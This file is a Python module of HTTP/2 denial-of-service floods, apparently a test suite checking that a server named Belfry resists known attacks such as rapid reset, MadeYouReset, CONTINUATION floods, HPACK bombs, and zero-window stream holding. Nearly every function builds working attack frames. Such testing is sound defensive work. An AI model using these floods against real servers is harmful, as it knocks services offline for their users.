"""Floods of HTTP/2 that made other servers work for nothing, or keep without end."""

import collections
import itertools

from attackers import Held, Tally, attack, drain, pour
from h2_client import frame

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
PRIORITY_UPDATE = 0x10  # RFC 9218, section 7.1
END_STREAM, END_HEADERS, PADDED, ACK = 1, 4, 8, 1
PROTOCOL_ERROR, STREAM_CLOSED, REFUSED_STREAM, ENHANCE_YOUR_CALM = 1, 5, 7, 11  # RFC 9113, section 7
INITIAL_WINDOW_SIZE = b"\0\x04"                                           # section 6.5.2
GREATEST_WINDOW = 2**31 - 1
CALM = f"GOAWAY {ENHANCE_YOUR_CALM}"

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"  # section 3.4

# :method GET, :scheme https, :path /, from the static table; :authority app.test as a literal (RFC 7541).
AUTHORITY = b"\x01\x08app.test"
GET = b"\x82\x87\x84" + AUTHORITY
POST = b"\x83\x87\x84" + AUTHORITY
STREAMS = range(1, 40_000, 2)


def literal(name, value):
    """A field without indexing, both as they are (RFC 7541, section 6.2.2); below 127 bytes each."""
    assert len(name) < 127 and len(value) < 127
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def get(path, authority=b"app.test"):
    """The head of a GET; `path` without indexing under the static table's name 4."""
    return b"\x82\x87\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(authority)]) + authority


class Reader:
    """Takes frames off what comes, and notes what the door says in them."""

    def __init__(self, answers=None):
        self.unread, self.goaway, self.resets, self.heads, self.ended, self.data = b"", None, 0, 0, 0, 0
        self.answers = answers if answers is not None else collections.Counter()

    def __call__(self, piece):
        self.unread += piece
        at = 0
        while len(self.unread) - at >= 9:
            size = int.from_bytes(self.unread[at:at + 3], "big")
            if len(self.unread) - at < 9 + size:
                break
            kind, flags = self.unread[at + 3], self.unread[at + 4]
            self.note(kind, flags, size, self.unread[at + 9:at + 9 + min(size, 8)])
            at += 9 + size
        self.unread = self.unread[at:]

    def note(self, kind, flags, size, payload):
        if kind == GOAWAY and self.goaway is None:
            self.goaway = int.from_bytes(payload[4:8], "big")
        elif kind == RST_STREAM:
            self.resets += 1
            self.answers[f"reset {int.from_bytes(payload[:4], 'big')}"] += 1
        elif kind == HEADERS:
            self.heads += 1
            self.answers["head"] += 1
        elif kind == DATA:
            self.data += size
        if kind in (HEADERS, DATA) and flags & END_STREAM:
            self.ended += 1

    def ending(self, how):
        return how if self.goaway is None else f"GOAWAY {self.goaway}"


def connect(orders, source, settings=b"", host="app.test", window=False):
    """A connection whose preface is sent; with `window`, its own window is as large as can be."""
    sock = orders.target.tls(source, ("h2",), host)
    # Section 6.9.2: a connection's window is 65,535 at first.
    more = frame(WINDOW_UPDATE, 0, 0, (GREATEST_WINDOW - 65_535).to_bytes(4, "big")) if window else b""
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + more)
    return sock


def flood_of(orders, first, pieces):
    """Connections one behind the other, each sending `first` and 4 MiB of `pieces`, until the door says goodbye."""
    tally, once = Tally(), b"".join(pieces)
    blob = first + once * max(1, 4 * 1024 * 1024 // len(once))
    size = len(once) / len(pieces)
    orders.begin()
    for source in orders.sources():
        if orders.over():
            break
        try:
            sock = connect(orders, source)
        except OSError:
            tally.refused += 1
            continue
        tally.connections += 1
        reader = Reader(tally.answers)
        sent, how = pour(sock, blob, orders.last, reader, lambda: reader.goaway is not None)
        tally.bytes += sent
        tally.units += int(sent / size)
        if orders.over() and not how:
            # The last one shows that the door means what it says.
            how = drain(sock, orders.last, reader)
            tally.ends["closed" if how else "left open"] += 1
        tally.ends[reader.ending(how or "open")] += 1
        sock.close()
    return tally


# A few connections, each with at most a window of 1 MiB, its streams and its frames in one Buffer; the rest is what the
# allocator keeps of a busy thread.
FEW = "2 connections of 1 MiB, 200 streams each, and the allocator's own"


# Of frames that ask for nothing (src/edge/http2_budget.hpp): no flood begins more requests than it has of these.
BUDGET = 400


def flood(what, unit="frames", ends=(CALM,), least=1000):
    """Registers a flood by what gives (first, pieces)."""
    def register(build):
        def run(orders):
            return flood_of(orders, *build())
        run.__name__ = build.__name__
        return attack(what, unit, least, 24, FEW, ends, begins=BUDGET)(run)
    return register


@flood("rapid reset (CVE-2023-44487)", "requests", least=400)
def rapid_reset():
    return b"", [frame(HEADERS, END_HEADERS | END_STREAM, number, GET) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")
                 for number in STREAMS]


# CVE-2025-8671: the client breaks a rule of a stream, so that it is the server who resets it. Which breaches end the
# stream and which the connection is the server's to choose (RFC 9113, section 5.4.2); the connection's end is as good.

@flood("MadeYouReset (CVE-2025-8671): window update of 0", "requests", (CALM, f"GOAWAY {PROTOCOL_ERROR}"), least=400)
def made_you_reset_by_zero():
    return b"", [frame(HEADERS, END_HEADERS | END_STREAM, number, GET) + frame(WINDOW_UPDATE, 0, number, bytes(4))
                 for number in STREAMS]


@flood("MadeYouReset: window beyond its greatest", "requests", least=400)
def made_you_reset_by_overflow():
    return b"", [frame(HEADERS, END_HEADERS, number, POST) +
                 frame(WINDOW_UPDATE, 0, number, GREATEST_WINDOW.to_bytes(4, "big")) for number in STREAMS]


@flood("MadeYouReset: DATA behind the end", "requests", (CALM, f"GOAWAY {STREAM_CLOSED}"), least=400)
def made_you_reset_by_data():
    return b"", [frame(HEADERS, END_HEADERS | END_STREAM, number, GET) + frame(DATA, 0, number, b"x")
                 for number in STREAMS]


@flood("MadeYouReset: HEADERS behind the end", "requests", (CALM, f"GOAWAY {STREAM_CLOSED}"), least=400)
def made_you_reset_by_headers():
    return b"", [frame(HEADERS, END_HEADERS | END_STREAM, number, GET) * 2 for number in STREAMS]


@flood("MadeYouReset: body beyond its length", "requests", least=400)
def made_you_reset_by_length():
    head = POST + literal(b"content-length", b"1")
    return b"", [frame(HEADERS, END_HEADERS, number, head) + frame(DATA, 0, number, b"xx") for number in STREAMS]


@flood("MadeYouReset: a stream that depends on itself", "requests", (CALM, f"GOAWAY {PROTOCOL_ERROR}"), least=400)
def made_you_reset_by_priority():
    return b"", [frame(HEADERS, END_HEADERS | END_STREAM, number, GET) +
                 frame(PRIORITY, 0, number, number.to_bytes(4, "big") + b"\0") for number in STREAMS]


@flood("MadeYouReset: heads that are malformed", "heads", least=400)
def made_you_reset_by_head():
    return b"", [frame(HEADERS, END_HEADERS | END_STREAM, number, GET + literal(b"Upper", b"x")) for number in STREAMS]


@flood("more streams than there may be", "heads", least=400)
def refused_streams():
    return b"", [frame(HEADERS, END_HEADERS, number, POST) for number in STREAMS]


@flood("CONTINUATION flood (CVE-2024-27316)")
def continuation():
    # A literal without indexing that fills the frame: 16,000 bytes of value.
    piece = frame(CONTINUATION, 0, 1, b"\0\x01x\x7f\x81\x7c" + b"a" * 16_000)
    return frame(HEADERS, 0, 1, GET), [piece]


@flood("CONTINUATION frames that are empty")
def empty_continuation():
    return frame(HEADERS, 0, 1, GET), [frame(CONTINUATION, 0, 1)] * 1000


@flood("HPACK bomb", "heads", least=20)
def hpack_bomb():
    """A large entry of the dynamic table named again and again: a small frame that grows to 32 MB."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000
    return b"", [frame(HEADERS, END_HEADERS | END_STREAM, number, GET + entry + b"\xbe" * 8000)
                 for number in range(1, 400, 2)]


@flood("fields without name and value (CVE-2019-9516)", "heads", least=100)
def empty_fields():
    return b"", [frame(HEADERS, END_HEADERS | END_STREAM, number, GET + b"\0\0\0" * 100)
                 for number in range(1, 10_000, 2)]


@flood("PING flood (CVE-2019-9512)")
def ping():
    return b"", [frame(PING, 0, 0, number.to_bytes(8, "big")) for number in range(1000)]


@flood("SETTINGS flood (CVE-2019-9515)")
def settings():
    return b"", [frame(SETTINGS, 0, 0)] * 1000


@flood("SETTINGS that are long")
def large_settings():
    return b"", [frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64" * 100)]


@flood("SETTINGS that move all windows")
def window_settings():
    """Each one changes the window of every stream that is open."""
    opened = b"".join(frame(HEADERS, END_HEADERS, number, POST) for number in range(1, 200, 2))
    return opened, [frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE + size.to_bytes(4, "big")) for size in (1, 65_535)] * 500


@flood("empty DATA (CVE-2019-9518)")
def empty_data():
    return frame(HEADERS, END_HEADERS, 1, POST), [frame(DATA, 0, 1)] * 1000


@flood("empty DATA with padding")
def padded_empty_data():
    return frame(HEADERS, END_HEADERS, 1, POST), [frame(DATA, PADDED, 1, b"\0")] * 1000


@flood("PRIORITY flood (CVE-2019-9513)")
def priority():
    return b"", [frame(PRIORITY, 0, 1, b"\0\0\0\0" + bytes([weight])) for weight in range(256)] * 4


@flood("PRIORITY_UPDATE flood")
def priority_update():
    return b"", [frame(PRIORITY_UPDATE, 0, 0, (2 * number + 1).to_bytes(4, "big") + b"u=3") for number in range(1000)]


@flood("WINDOW_UPDATE flood")
def window_update():
    return b"", [frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")] * 1000


@flood("frames of no known kind")
def unknown_frames():
    return b"", [frame(0xF0, 0, 0, b"x")] * 1000


# --- what is allowed, to its limits

def request_by_request(orders, first, heads):
    """All of `heads` at once on a connection, then again on the next one when every stream has ended."""
    tally = Tally()
    blob = first + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, head)
                            for number, head in enumerate(heads))
    orders.begin()
    for source in orders.sources():
        if orders.over():
            return tally
        try:
            sock = connect(orders, source, window=True)
        except OSError:
            tally.refused += 1
            continue
        tally.connections += 1
        reader = Reader(tally.answers)
        sent, how = pour(sock, blob, orders.last, reader, lambda: reader.ended + reader.resets >= len(heads))
        tally.bytes += sent
        tally.units += reader.ended
        tally.ends[reader.ending(how or "answered")] += 1
        sock.close()
    return tally


@attack("heads as large as they may be", "requests", 40, 48,
        "2 connections with 100 heads of 16 KiB, each kept twice (parsed, and as written to the application)",
        ends=("answered",))
def header_lists_at_the_limit(orders):
    # 16,384 is the limit, with 32 for each field (RFC 9113, section 6.5.2); the pseudo fields are about 200 of it.
    fields = b"".join(literal(b"x-%03d" % number, b"v" * 60) for number in range(160))
    return request_by_request(orders, b"", [GET + fields] * 100)


@attack("HPACK table resized 4,000 times in a head", "requests", 40, 24, FEW, ends=("answered",))
def hpack_resizes(orders):
    # RFC 7541, section 6.3: to nothing, and to 4,096 again.
    return request_by_request(orders, b"", [b"\x20\x3f\xe1\x1f" * 2000 + GET] * 100)


def hold_streams(orders, connections, streams, head, settings=b"", host="app.test", window=False, read=True):
    """Opens connections full of streams and waits for what becomes of them. What came is taken off the sockets, or not."""
    tally = Tally()
    held = Held(tally)
    blob = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, head) for number in range(1, 2 * streams, 2))
    for source, _ in zip(orders.sources(), range(connections)):
        try:
            sock = connect(orders, source, settings, host, window)
            sock.sendall(blob)
        except OSError:
            tally.refused += 1
            continue
        tally.connections += 1
        tally.units += streams
        tally.bytes += len(blob)
        held.add(sock, Reader(tally.answers))
    orders.begin()
    while not orders.over() and held.open:
        if read:
            held.look(0.1)
        else:
            orders.wait()
    held.look()
    held.close()
    return tally


# A stream that waits holds two Buffers of 16 KiB, its request and its coroutines.
STREAM = 64 / 1024


# Of one address, on all its connections (src/edge/options.hpp).
STREAMS_OF_AN_ADDRESS = 512


@attack("3,000 streams of one address", "streams", 3000, STREAMS_OF_AN_ADDRESS * STREAM,
        f"{STREAMS_OF_AN_ADDRESS} streams that wait, 64 KiB each", processes=1)
def streams_of_one_address(orders):
    orders.sources = lambda: itertools.repeat("127.0.2.1")
    return hold_streams(orders, 30, 100, get(b"/big?bytes=20000000"), INITIAL_WINDOW_SIZE + bytes(4))


@attack("windows of 0 before large files", "streams", 100, 1000 * STREAM, "1,000 streams that wait, 64 KiB each",
        ends=(), within=30.0)
def zero_windows(orders):
    return hold_streams(orders, 5, 100, get(b"/big?bytes=20000000"), INITIAL_WINDOW_SIZE + bytes(4))


@attack("windows of 0 before Belfry's own pages", "streams", 100, 4000 * STREAM,
        "4,000 streams that wait, 64 KiB each", ends=(), within=30.0)
def zero_windows_on_pages(orders):
    return hold_streams(orders, 20, 100, get(b"/security", b"belfry.test"), INITIAL_WINDOW_SIZE + bytes(4),
                        host="belfry.test")


@attack("all windows open, the socket not read (CVE-2019-9517)", "streams", 100, 1000 * STREAM,
        "1,000 streams that wait, 64 KiB each", ends=(), within=30.0)
def unread(orders):
    return hold_streams(orders, 5, 100, get(b"/big?bytes=20000000"),
                        INITIAL_WINDOW_SIZE + GREATEST_WINDOW.to_bytes(4, "big"), window=True, read=False)
